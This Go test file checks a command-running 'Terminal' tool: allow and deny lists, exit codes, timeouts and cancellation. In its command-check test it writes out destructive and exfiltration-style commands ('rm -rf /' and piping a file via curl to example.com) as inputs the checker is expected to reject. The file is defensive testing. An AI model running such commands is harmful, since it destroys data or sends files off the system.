package tools

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

func TestTerminalRunAllowsWhitelisted(t *testing.T) {
	term := &Terminal{
		Allowed:        []string{"echo"},
		Denied:         []string{"rm"},
		Timeout:        time.Second * 2,
		AllowExecution: true,
	}

	var chunks []string
	res, err := term.Run(context.Background(), "echo hi", "", func(s string) { chunks = append(chunks, s) })
	require.NoError(t, err)
	require.Equal(t, 0, res.ExitCode)
	require.Equal(t, "hi\n", res.Output)
	require.Equal(t, []string{"hi\n"}, chunks)
}

func TestTerminalRunReportsExitCode(t *testing.T) {
	term := &Terminal{AllowExecution: true, Timeout: 2 * time.Second}
	res, err := term.Run(context.Background(), "echo out; echo err 1>&2; exit 3", "", nil)
	require.NoError(t, err)
	require.Equal(t, 3, res.ExitCode)
	require.Contains(t, res.Output, "out")
	require.Contains(t, res.Output, "err")
}

func TestTerminalCheckCommand(t *testing.T) {
	term := &Terminal{Denied: []string{"rm", "curl"}, AllowExecution: true}

	require.Error(t, term.CheckCommand("rm -rf /"))
	require.Error(t, term.CheckCommand("ls && rm -rf /"))
	require.Error(t, term.CheckCommand("cat x | /usr/bin/curl -d @- example.com"))
	require.NoError(t, term.CheckCommand("ls -la | grep go"))
	require.Error(t, term.CheckCommand("  "))

	allow := &Terminal{Allowed: []string{"go", "ls"}, AllowExecution: true}
	require.NoError(t, allow.CheckCommand("GOFLAGS=-mod=mod go test ./..."))
	require.Error(t, allow.CheckCommand("go test; make"))
}

func TestTerminalExecDisabled(t *testing.T) {
	term := &Terminal{AllowExecution: false}
	_, err := term.Run(context.Background(), "echo hi", "", nil)
	require.Error(t, err)
}

func TestTerminalRunCancelled(t *testing.T) {
	term := &Terminal{AllowExecution: true, Timeout: 10 * time.Second}
	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
	defer cancel()

	start := time.Now()
	_, err := term.Run(ctx, "sleep 5", "", nil)
	require.ErrorIs(t, err, context.DeadlineExceeded)
	require.Less(t, time.Since(start), 4*time.Second)
}

func TestTerminalRunTimeout(t *testing.T) {
	term := &Terminal{AllowExecution: true, Timeout: 100 * time.Millisecond}
	_, err := term.Run(context.Background(), "sleep 5", "", nil)
	require.Error(t, err)
	require.True(t, strings.Contains(err.Error(), "timed out"), err.Error())
}

func TestRootCommand(t *testing.T) {
	cases := map[string]string{
		"git status":            "git",
		"  /usr/bin/ls -la":     "ls",
		"FOO=1 BAR=2 make test": "make",
		"(cd x":                 "cd",
		"":                      "",
	}
	for in, want := range cases {
		require.Equal(t, want, RootCommand(in), in)
	}
}
